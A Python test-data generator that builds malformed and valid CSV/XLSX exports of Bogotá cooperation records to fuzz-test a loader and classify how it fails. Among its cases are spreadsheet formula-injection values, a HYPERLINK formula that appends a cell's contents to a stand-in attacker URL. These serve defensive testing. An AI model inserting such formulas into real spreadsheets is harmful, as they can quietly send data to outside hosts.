"""A seeded generator of interaction exports, bad and good, for the loader's fuzz test and bench.

Each case is one file of a known class: the bad classes are what real exports get wrong (money
that overflows or uses other digits or grouping, rows cut short or ragged, a UTF-8 file with one
Latin-1 byte, spreadsheet error cells, repeated headers, names without letters); the good ones are
what spreadsheets legitimately write (Excel's trailing delimiters, Windows-1252, a BOM, quoted
cells, an apostrophe-escaped formula, formatted empty rows). `run_case` loads one and says how it went.
"""
from __future__ import annotations

import io
import random
from dataclasses import dataclass
from pathlib import Path

HEADER = ["id_interaccion", "año", "entidad_distrital", "cooperante", "tipo_accion", "aporte_cooperante",
          "contrapartida_distrital", "ods", "descripcion"]
ENTITIES = ["SDM", "SECRETARÍA DISTRITAL DE AMBIENTE", "IDIGER", "UAESP", "METRO BOGOTA", "SJD", "IDU"]
COOPERANTS = ["BANCO MUNDIAL", "BID", "C40 GRUPO DE LIDERAZGO CLIMÁTICO", "GIZ AGENCIA DE COOPERACIÓN ALEMANA",
              "Fundación Ñandú Nueva"]
ACTIONS = ["Cooperación Internacional", "Misión", ""]
AMOUNTS = ["$ 1.234.567,89", "1234567.89", "1.500.000", "250000,5", "0", "", "$133.770.000,00", "7600000"]
EXCEL_ERRORS = ["#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!"]
BAD_AMOUNTS = {
    "money overflow": ["100000000000000000", "9" * 400, "$ 90.000.000.000.000.000,00", "1000000000000000.01"],
    "money other digits": ["١٢٣٤", "１２３４", "१२३", "12\u0663"],
    "money grouping": ["1.234.56,7", "133,770,000.00", "12.34.567", "1.2345", "1,234", "1.234,567", "1..5"],
    "money dashes": ["------", "-", "--5", "$-", "- -"],
    "money negative": ["-5000", "-$ 1.000,00", "$ -7"],
    "money garbage": ["12abc", "1e5", "Infinity", "NaN", "0x10", "1 000", "$$5"],
}
NAMELESS = ["!!!", "★★★", "---", "...", "¿?", "•", "'!"]
BAD_CLASSES = (*BAD_AMOUNTS, "truncated row", "open quote", "short row", "long row", "mixed encoding",
               "error cell", "error cell xlsx", "formula without result xlsx", "duplicated header", "nameless", "bad year", "nul bytes")
GOOD_CLASSES = ("plain", "trailing delimiters", "windows-1252", "bom", "quoted cells", "escaped formula",
                "xlsx", "xlsx styled empty rows")


@dataclass
class Case:
    number: int
    kind: str
    bad: bool
    name: str
    data: bytes


def _row(rng: random.Random, i: int) -> list[str]:
    return [f"F-{i:05d}", str(rng.choice([2023, 2024])), rng.choice(ENTITIES), rng.choice(COOPERANTS),
            rng.choice(ACTIONS), rng.choice(AMOUNTS), rng.choice(["0", "", "1.000"]), str(rng.randint(1, 17)),
            rng.choice(["", "Asistencia técnica", "Taller; con punto y coma", "línea\nnueva"])]


def _csv(rows: list[list[str]], sep: str = ";", trailing: bool = False) -> str:
    import csv

    out = io.StringIO()
    writer = csv.writer(out, delimiter=sep, lineterminator="\r\n")
    for row in rows:
        writer.writerow(row + ([""] if trailing else []))
    return out.getvalue()


def _xlsx(rows: list[list], styled_empty: int = 0, error_at: tuple[int, int] | None = None) -> bytes:
    import openpyxl
    from openpyxl.styles import Font

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if error_at:
        cell = sheet.cell(row=error_at[0], column=error_at[1])
        cell.value, cell.data_type = "#N/A", "e"
    bold = Font(bold=True)
    for r in range(len(rows) + 1, len(rows) + 1 + styled_empty):
        sheet.cell(row=r, column=1).font = bold
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def generate(seed: int, count: int) -> list[Case]:
    """`count` cases, bad classes three times as often as good ones, the same for the same seed."""
    rng = random.Random(seed)
    kinds = [(k, True) for k in BAD_CLASSES] * 3 + [(k, False) for k in GOOD_CLASSES]
    return [_case(rng, n, *rng.choice(kinds)) for n in range(count)]


def _case(rng: random.Random, number: int, kind: str, bad: bool) -> Case:
    base = number * 100
    rows = [_row(rng, base + i) for i in range(rng.randint(2, 8))]
    target = rng.randrange(len(rows))
    name, data = f"caso-{number:05d}.csv", None
    if kind in BAD_AMOUNTS:
        rows[target][5] = rng.choice(BAD_AMOUNTS[kind])
    elif kind == "truncated row":
        text = _csv([HEADER, *rows])
        last = text.rstrip("\r\n").rsplit("\r\n", 1)
        cut = last[1][: rng.randint(1, max(1, last[1].index(";", last[1].index(";") + 1)))]  # within the first cells
        data = (last[0] + "\r\n" + cut).encode("utf-8")
    elif kind == "open quote":
        text = _csv([HEADER, *rows])
        data = (text + f'F-X;2024;SDM;"BID sin cerrar;1000;;11;').encode("utf-8")
    elif kind == "short row":
        rows[target] = rows[target][: rng.randint(1, len(HEADER) - 1)]
    elif kind == "long row":
        rows[target] = rows[target] + ["valor de más"]
    elif kind == "mixed encoding":
        text = _csv([HEADER, *rows])
        raw = text.encode("utf-8")
        at = rng.randrange(len(raw) // 2, len(raw))
        while raw[at:at + 1] in (b"\r", b"\n"):
            at -= 1
        data = raw[:at] + bytes([rng.choice([0xE9, 0xF1, 0xD1, 0xF3])]) + raw[at:]
        if b"\xc3" not in data:  # make sure the rest is recognisably UTF-8
            data = data.replace(b"SDM", "SECRETARÍA DISTRITAL DE MOVILIDAD".encode("utf-8"), 1)
    elif kind == "error cell":
        rows[target][rng.choice([0, 1, 2, 3, 5, 7])] = rng.choice(EXCEL_ERRORS)
    elif kind == "error cell xlsx":
        name, data = f"caso-{number:05d}.xlsx", _xlsx([HEADER, *rows], error_at=(target + 2, rng.randint(1, 8)))
    elif kind == "formula without result xlsx":  # what an export with live formulas looks like
        rows[target][rng.choice([2, 3, 8])] = rng.choice(['=HYPERLINK("http://evil.example/?x="&A1, "x")', "=1+1",
                                                         "=SUM(F2:F3)"])
        name, data = f"caso-{number:05d}.xlsx", _xlsx([HEADER, *rows])
    elif kind == "duplicated header":
        column = rng.randrange(len(HEADER))
        variant = rng.choice([HEADER[column], HEADER[column].upper(), " " + HEADER[column]])
        header = HEADER + [variant]
        rows = [r + [r[column]] for r in rows]
        data = _csv([header, *rows]).encode("utf-8")
    elif kind == "nameless":
        rows[target][rng.choice([2, 3])] = rng.choice(NAMELESS)
    elif kind == "bad year":
        rows[target][1] = rng.choice(["20 24", "２０２４", "", "año", "99999999999999999999", "2024.5"])
    elif kind == "nul bytes":
        data = _csv([HEADER, *rows]).encode("utf-8") + b"\x00\x00"
    elif kind == "trailing delimiters":
        data = _csv([HEADER, *rows], trailing=True).encode("utf-8")
    elif kind == "windows-1252":
        data = _csv([HEADER, *rows]).encode("cp1252")
    elif kind == "bom":
        data = _csv([HEADER, *rows], sep=",").encode("utf-8-sig")
    elif kind == "quoted cells":
        rows[target][8] = 'Dijo "hola"; luego, se fue\ny volvió'
    elif kind == "escaped formula":
        rows[target][8] = rng.choice(["'=HYPERLINK(\"http://evil.example/?x=\"&A1)", "'+57 1 3813000", "'-- nota", "'@SUMA"])
    elif kind == "xlsx":
        name, data = f"caso-{number:05d}.xlsx", _xlsx([HEADER, *rows])
    elif kind == "xlsx styled empty rows":
        name, data = f"caso-{number:05d}.xlsx", _xlsx([HEADER, *rows], styled_empty=rng.randint(100, 3000))
    if data is None:
        data = _csv([HEADER, *rows]).encode("utf-8")
    return Case(number, kind, bad, name, data)


@dataclass
class Outcome:
    kind: str
    bad: bool
    result: str           # loaded | clear error | unclear error | crash
    store_changed: bool   # after a rejection: the store must not change
    message: str = ""


def run_case(store, case: Case, folder: Path) -> Outcome:
    """Load one case into `store` in this process; classify what happened."""
    from coopgraph.errors import CoopgraphError, InputError
    from coopgraph.loaders.pipeline import load_files

    path = folder / case.name
    path.write_bytes(case.data)
    before = store.version() if store.has_data() else "empty"
    try:
        load_files(store, [path])
        return Outcome(case.kind, case.bad, "loaded", False)
    except InputError as exc:
        text = exc.message
        clear = text.startswith(str(path)) and ("line " in text or "expected" in text) and "Traceback" not in text
        after = store.version() if store.has_data() else "empty"
        return Outcome(case.kind, case.bad, "clear error" if clear else "unclear error", after != before, text)
    except CoopgraphError as exc:
        after = store.version() if store.has_data() else "empty"
        return Outcome(case.kind, case.bad, "unclear error", after != before, exc.message)
    except Exception as exc:  # a traceback a user would see
        after = store.version() if store.has_data() else "empty"
        import traceback

        where = traceback.extract_tb(exc.__traceback__)[-1]
        return Outcome(case.kind, case.bad, "crash", after != before,
                       f"{type(exc).__name__}: {exc} ({where.filename}:{where.lineno})")
    finally:
        path.unlink(missing_ok=True)
